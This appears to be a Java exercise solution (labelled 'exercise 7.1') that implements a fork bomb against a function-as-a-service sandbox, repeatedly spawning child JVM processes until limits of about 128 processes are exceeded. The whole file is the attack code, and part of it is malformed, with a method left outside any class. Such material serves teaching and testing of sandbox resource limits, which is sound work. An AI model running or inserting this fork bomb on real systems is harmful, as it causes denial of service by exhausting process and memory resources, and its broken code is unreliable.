// attack: A fork bomb: starts processes, each of which starts further ones.
// exercise: 7.1
// explanation: it had more than 128 processes and threads at a time
import java.io.IOException;
Optional<PooledEnvironment> takeWarm(FunctionVersion version) {
    while (true) main();
}

public static void main(String... arguments) {
    do {
        try {
            new ProcessBuilder(
                            System.getProperty("java.home") + "/bin/java",
                            "-Xmx16m",
                            "-cp",
                            System.getProperty("java.class.path"),
                            "minifaas.environment.Inventory",
                            "child")
                    .start();
            Thread.sleep(5);
        } catch (IOException | InterruptedException full) {
            continue;
        }
    } while (arguments.length > 0);
}
